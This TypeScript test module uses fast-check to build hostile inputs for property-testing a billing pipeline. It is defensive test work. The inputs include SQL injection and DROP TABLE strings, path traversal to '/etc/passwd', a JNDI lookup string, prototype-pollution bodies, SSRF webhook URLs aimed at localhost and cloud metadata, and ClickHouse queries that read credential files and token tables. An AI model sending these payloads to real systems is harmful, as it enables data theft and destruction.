// fast-check generators of hostile inputs for the whole-pipeline property test: events, account
// snapshots, settings bodies and finance SQL as a broken or malicious sender would send them.
// Every message carries a unique key, so its outcome can be found again.
import fc from 'fast-check';
import { DEFAULT_PROVIDERS, HF_INFERENCE } from '@nanobill/contract';

/** The org whose settings the test attacks (a team org with members). */
export const ORG = 'hostile-org';
const USERS = Array.from({ length: 8 }, (_, i) => `hostile-user-${i}`);
export const HARDWARE = { 'nvidia-a10g': '0.00012', 'cpu-basic': '0.0000083' };
/** The ceiling of one request's cost the providers file sets (USD 100 in nano-USD). */
export const MAX_COST_NANO_USD = 100_000_000_000n;

let sequence = 0;
/** A key no other generated message has (fast-check may generate equal values). */
const uniqueKey = (prefix: string) => `${prefix}-${(sequence += 1).toString(36)}`;

/** Strings a hostile sender picks: control and invisible characters, RTL, quotes, long. */
export function hostileString(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 40 }),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.constantFrom(
      '',
      ' ',
      '\u0000',
      'a\nb',
      'x\r\nSet-Cookie: y',
      '\u202eevil',
      "o'; DROP TABLE billing.ledger; --",
      '../../etc/passwd',
      '%2e%2e%2f',
      '${jndi:ldap://x}',
      '🦄'.repeat(64),
      'é'.repeat(300),
      'a'.repeat(97),
      'a'.repeat(257),
      '__proto__',
      'constructor',
    ),
  );
}

const isoNow = (offsetMs: number) => new Date(Date.now() + offsetMs).toISOString();

function validEvent(key: string) {
  return fc
    .record({
      user: fc.constantFrom(...USERS),
      provider: fc.constantFrom(...DEFAULT_PROVIDERS),
      routed: fc.boolean(),
      reached: fc.boolean(),
      ageMs: fc.integer({ min: 6 * 60_000, max: 3_600_000 }),
      inputTokens: fc.nat(10_000),
      outputTokens: fc.nat(10_000),
      computeTimeMs: fc.nat(120_000),
      hardware: fc.constantFrom(...Object.keys(HARDWARE)),
    })
    .map((g) => {
      const event: Record<string, unknown> = {
        schemaVersion: 1,
        requestId: key,
        timestamp: isoNow(-g.ageMs),
        userId: g.user,
        provider: g.provider,
        model: 'hostile/model',
        task: 'conversational',
        billingMode: g.routed || g.reached ? 'routed' : 'custom_key',
        status: 200,
        usage: { inputTokens: g.inputTokens, outputTokens: g.outputTokens },
      };
      if (g.reached || g.routed) event.providerRequestId = `p-${key}`;
      if (g.provider === HF_INFERENCE) {
        event.computeTimeMs = g.computeTimeMs;
        event.hardware = g.hardware;
      }
      return event;
    });
}

type Mutation = (event: Record<string, unknown>) => unknown;

/** What a broken or malicious router does to an event. */
function mutation(): fc.Arbitrary<{ name: string; apply: Mutation }> {
  const set =
    (field: string, value: unknown): Mutation =>
    (e) => ({ ...e, [field]: value });
  const named = (name: string, arb: fc.Arbitrary<Mutation>) =>
    arb.map((apply) => ({ name, apply }));
  return fc.oneof(
    {
      weight: 6,
      arbitrary: fc.constant({ name: 'none', apply: (e: Record<string, unknown>) => e }),
    },
    named(
      'billTo',
      hostileString().map((s) => set('billTo', s)),
    ),
    named(
      'userId',
      hostileString().map((s) => set('userId', s)),
    ),
    named(
      'providerRequestId',
      hostileString().map((s) => (e) => ({
        ...e,
        providerRequestId: `${s}${e.requestId as string}`,
      })),
    ),
    named(
      'timestamp',
      fc
        .constantFrom(
          '0000-01-01T00:00:00.000Z',
          '9999-12-31T23:59:59.999Z',
          isoNow(36 * 86_400_000 * -1),
          isoNow(10 * 60_000),
          '2026-13-45T99:00:00Z',
          'yesterday',
          1_700_000_000_000,
        )
        .map((t) => set('timestamp', t)),
    ),
    named(
      'numbers',
      fc
        .constantFrom(-1, 1.5, 2 ** 53, 2 ** 64, 1e308, '12', null)
        .chain((n) =>
          fc.constantFrom<Mutation>(
            set('status', n),
            set('usage', { inputTokens: n, outputTokens: 1 }),
            set('computeTimeMs', n),
            set('schemaVersion', n),
          ),
        ),
    ),
    named(
      'provider',
      hostileString().map((s) => set('provider', s)),
    ),
    named(
      'hardware',
      fc.constantFrom('unknown-gpu', '', 'a'.repeat(65)).map((h) => set('hardware', h)),
    ),
    named(
      'computeTime',
      fc.constantFrom(10 ** 12, Number.MAX_SAFE_INTEGER).map((c) => (e) => ({
        ...e,
        provider: HF_INFERENCE,
        computeTimeMs: c,
        hardware: 'nvidia-a10g',
        providerRequestId: `p-${e.requestId as string}`,
        billingMode: 'routed',
      })),
    ),
    named(
      'extra',
      fc.jsonValue({ maxDepth: 4 }).map((v) => (e) => {
        // Own keys named like Object's internals, as a JSON parser sees them.
        const copy: Record<string, unknown> = { ...e, extraField: v };
        for (const key of ['__proto__', 'constructor']) {
          Object.defineProperty(copy, key, { value: v, enumerable: true });
        }
        return copy;
      }),
    ),
    named(
      'drop',
      fc.constantFrom('requestId', 'timestamp', 'userId', 'provider').map((f) => (e) => {
        const copy = { ...e };
        delete copy[f];
        return copy;
      }),
    ),
  );
}

export interface Message {
  key: string;
  value: Buffer;
  /** Sent twice (a redelivery): still one row. */
  twice: boolean;
  kind: string;
}

/** A message on `inference.requests.v1`: a mutated event, or bytes that are not one. */
export function eventMessage(): fc.Arbitrary<Message> {
  const mutated = fc
    .tuple(
      fc.constant(null).map(() => uniqueKey('hx')),
      fc.boolean(),
    )
    .chain(([key, twice]) =>
      fc.tuple(validEvent(key), mutation()).map(([event, m]) => ({
        key,
        value: Buffer.from(JSON.stringify(m.apply(event))),
        twice: twice && m.name === 'none',
        kind: m.name,
      })),
    );
  const garbage = fc
    .oneof(
      fc.uint8Array({ maxLength: 200 }).map((b) => Buffer.from(b)),
      fc
        .constantFrom('', 'null', '[]', '{', '{"schemaVersion":1', '"x"', '1e999')
        .map((s) => Buffer.from(s)),
      fc.constant(Buffer.alloc(70 * 1024, 'a')),
      fc.constant(Buffer.from('['.repeat(5_000) + ']'.repeat(5_000))),
    )
    .map((value) => ({ key: uniqueKey('hx-garbage'), value, twice: false, kind: 'garbage' }));
  return fc.oneof({ weight: 9, arbitrary: mutated }, { weight: 1, arbitrary: garbage });
}

/** The accounts the valid events and the settings attacks need. */
export function baseAccounts(): Array<{ key: string; value: Buffer }> {
  const at = new Date(Date.now() - 86_400_000).toISOString();
  const snapshot = (s: Record<string, unknown>) => ({
    key: s.accountId as string,
    value: Buffer.from(JSON.stringify({ schemaVersion: 1, effectiveAt: at, ...s })),
  });
  return [
    ...USERS.map((u, i) => snapshot({ accountId: u, kind: 'user', plan: i % 2 ? 'pro' : 'free' })),
    snapshot({ accountId: ORG, kind: 'org', plan: 'team', seats: 5, members: USERS.slice(0, 4) }),
  ];
}

/** A message on `billing.accounts.v1` keyed by its account id, often broken. */
export function snapshotMessage(): fc.Arbitrary<{ key: string; value: Buffer }> {
  // Mostly plausible, so that some are stored: each field is hostile now and then.
  const often = <T>(plausible: fc.Arbitrary<T>, hostile: fc.Arbitrary<T>) =>
    fc.oneof({ weight: 4, arbitrary: plausible }, { weight: 1, arbitrary: hostile });
  return fc
    .record({
      id: often(fc.constant(''), hostileString()),
      kind: often(fc.constantFrom('user', 'org'), fc.constantFrom('team', '', 'USER')),
      plan: fc.constantFrom('free', 'pro', 'team', 'enterprise', 'platinum'),
      seats: often(fc.constantFrom(1, 5), fc.constantFrom(0, -1, 1.5, 2 ** 40, '3')),
      members: often(fc.constant(USERS.slice(0, 2)), fc.array(hostileString(), { maxLength: 3 })),
      limit: often(
        fc.constantFrom(undefined, '1000', 5_000_000_000),
        fc.constantFrom('-5', '9'.repeat(30), 1.5, 'abc'),
      ),
      webhook: often(
        fc.constantFrom(undefined, 'https://hooks.example/x'),
        fc.constantFrom('http://127.0.0.1/x', 'javascript:alert(1)', 'https://[::1]/'),
      ),
      effectiveAt: often(
        fc.constant(isoNow(-3_600_000)),
        fc.constantFrom('0000-01-01T00:00:00Z', 'nope', isoNow(10 * 365 * 86_400_000)),
      ),
      broken: fc.integer({ min: 0, max: 9 }).map((n) => n === 0),
    })
    .map((g) => {
      // As Kafka and ClickHouse will hold it: UTF-8 (lone surrogates become U+FFFD).
      const key = Buffer.from(`${g.id}${uniqueKey('hs')}`).toString();
      // A plan that goes with the kind (a wrong kind keeps any plan: it is refused anyway).
      const plan =
        g.kind === 'user'
          ? g.plan === 'pro'
            ? 'pro'
            : 'free'
          : g.kind === 'org' && g.plan === 'pro'
            ? 'team'
            : g.plan;
      const body: Record<string, unknown> = {
        schemaVersion: 1,
        accountId: key,
        kind: g.kind,
        plan,
        effectiveAt: g.effectiveAt,
      };
      if (g.kind === 'org') Object.assign(body, { seats: g.seats, members: g.members });
      if (g.limit !== undefined && g.kind === 'org') body.spendingLimitNanoUsd = g.limit;
      if (g.webhook !== undefined) body.alertWebhookUrl = g.webhook;
      const text = JSON.stringify(body);
      return { key, value: Buffer.from(g.broken ? text.slice(0, 20) : text) };
    });
}

/** A `PUT /v1/orgs/{org}/settings` body (raw text): plausible, hostile or not JSON at all. */
export function settingsBody(): fc.Arbitrary<string> {
  const plausible = fc
    .record(
      {
        spendingLimitNanoUsd: fc.oneof(
          fc.constant(null),
          fc.bigInt({ min: 0n, max: 10n ** 12n }).map(String),
          fc.constantFrom('-1', '1.5', '9'.repeat(40), '', '0x10', ' 5'),
          fc.integer(),
        ),
        disabledProviders: fc.oneof(
          fc.subarray([...DEFAULT_PROVIDERS]),
          fc.array(hostileString(), { maxLength: 4 }),
        ),
        alertWebhookUrl: fc.oneof(
          fc.constant(null),
          fc.constantFrom(
            'https://hooks.example.com/nanobill',
            'http://hooks.example.com/x',
            'https://127.0.0.1/x',
            'https://localhost./x',
            'https://[::ffff:127.0.0.1]/x',
            'https://2130706433/x',
            'https://user:pass@hooks.example.com/x',
            'file:///etc/passwd',
            'javascript:alert(1)',
            `https://hooks.example.com/${'a'.repeat(5_000)}`,
          ),
          hostileString(),
        ),
      },
      { requiredKeys: [] },
    )
    .map((body) => JSON.stringify(body));
  const garbage = fc.oneof(
    fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v) ?? 'null'),
    fc.constantFrom(
      '',
      '{',
      '{"__proto__": {"admin": true}}',
      '[]',
      'null',
      '{"spendingLimitNanoUsd": "1", "extra": 1}',
    ),
  );
  return fc.oneof({ weight: 3, arbitrary: plausible }, { weight: 1, arbitrary: garbage });
}

/** Finance SQL: legitimate queries, attacks on the host, the tokens table, limits, and noise. */
export function financeSql(): fc.Arbitrary<string> {
  const expr = fc.constantFrom(
    'count()',
    'sum(cost_nano_usd)',
    "file('/etc/passwd')",
    "file('/proc/self/environ')",
    "getSetting('max_result_rows')",
    "dictGet('d', 'x', 1)",
    "joinGet('billing.api_tokens', 'secret_hash', 'x')",
    'sleep(3)',
    'hostName()',
    "url('http://169.254.169.254/', 'CSV', 'x String')",
    '*',
  );
  const from = fc.constantFrom(
    'billing.ledger',
    'billing.usage',
    'billing.api_tokens',
    'billing.webhook_secrets',
    'system.users',
    "file('/etc/passwd', 'LineAsString')",
    'numbers(1000000000)',
    "url('http://127.0.0.1:9464/metrics', 'LineAsString')",
    '(SELECT * FROM billing.api_tokens)',
  );
  const tail = fc.constantFrom(
    '',
    ' LIMIT 5',
    ' SETTINGS readonly = 0',
    " INTO OUTFILE '/tmp/hostile-out'",
    ' FORMAT TSV',
    '; DROP TABLE billing.ledger',
    ' -- ',
  );
  const built = fc.tuple(expr, from, tail).map(([e, f, t]) => `SELECT ${e} FROM ${f}${t}`);
  return fc.oneof({ weight: 4, arbitrary: built }, { weight: 1, arbitrary: hostileString() });
}
